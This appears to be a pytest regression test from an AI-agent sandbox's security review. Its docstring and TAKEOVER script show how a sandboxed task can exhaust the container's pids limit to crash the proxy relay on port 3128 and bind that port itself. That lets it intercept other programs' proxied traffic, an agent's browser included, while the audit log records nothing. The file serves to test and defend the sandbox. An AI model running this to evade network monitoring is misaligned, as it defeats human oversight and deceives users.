"""Review 3: the task can kill the in-container relay and serve 127.0.0.1:3128 itself.

The relay runs as nobody, so the task cannot signal it, but it lives in the task's container and
its threads count against the container's pids limit. The task fills that limit with idle
threads and then connects to 3128: the relay's `threading.Thread(...).start()` raises
RuntimeError in its accept loop, which is not caught, and the relay exits. Port 3128 is then
free, and the task's own server takes it: every program in the sandbox that follows
HTTP_PROXY/HTTPS_PROXY (the agent's Chromium in a desktop sandbox included) now talks to the
task, which can answer plain-HTTP pages with anything it likes and sees every CONNECT, and the
audit log records no network_request for any of it.
"""

from __future__ import annotations

import pytest

from sandbox import Network, SandboxSpec
from tests.sandbox.conftest import MakeSandbox

pytestmark = pytest.mark.docker

TAKEOVER = r"""
import socket, threading, time
try:
    socket.create_server(("127.0.0.1", 3128)).close()
    print("3128 was free before anything")
    raise SystemExit
except OSError:
    pass
hold = threading.Event()
idle = []
try:
    while True:
        t = threading.Thread(target=hold.wait)
        t.start()
        idle.append(t)
except RuntimeError:
    pass
for _ in range(3):
    try:
        socket.create_connection(("127.0.0.1", 3128), timeout=2).close()
    except OSError:
        pass
hold.set()
for t in idle:
    t.join()
for _ in range(50):
    try:
        server = socket.create_server(("127.0.0.1", 3128))
        print("took 3128")
        break
    except OSError as exc:
        error = exc
    time.sleep(0.1)
else:
    print("relay kept 3128:", error)
"""


def test_the_task_cannot_take_over_the_proxy_port(make_sandbox: MakeSandbox) -> None:
    spec = SandboxSpec(network=Network.ALLOWLIST, allow=("pypi.org",))
    box = make_sandbox("docker", spec)
    result = box.exec(["python3", "-c", TAKEOVER], timeout_s=120)
    said = result.stdout.decode().strip()
    assert said.startswith("relay kept 3128"), (said, result.stderr.decode()[-300:])
